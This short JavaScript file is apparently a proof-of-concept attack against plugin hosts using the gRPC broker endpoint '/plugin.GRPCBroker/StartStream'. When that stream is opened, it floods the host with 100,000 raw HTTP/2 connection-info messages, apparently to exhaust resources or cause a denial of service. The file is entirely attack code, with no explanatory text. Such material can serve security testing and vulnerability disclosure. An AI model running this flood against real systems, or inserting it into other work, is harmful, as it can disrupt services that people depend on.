import { attackHost } from './lib/attack.js';
import { connInfo } from './lib/messages.js';
import { rawMessage } from './lib/raw-http2.js';

attackHost({
  answer(stream) {
    if (stream.path !== '/plugin.GRPCBroker/StartStream') return false;
    stream.begin();
    stream.flood(
      (count) => rawMessage(connInfo.encode({ id: count + 1, network: 'unix', address: '/tmp/nothing' })),
      100_000,
    );
    return true;
  },
});
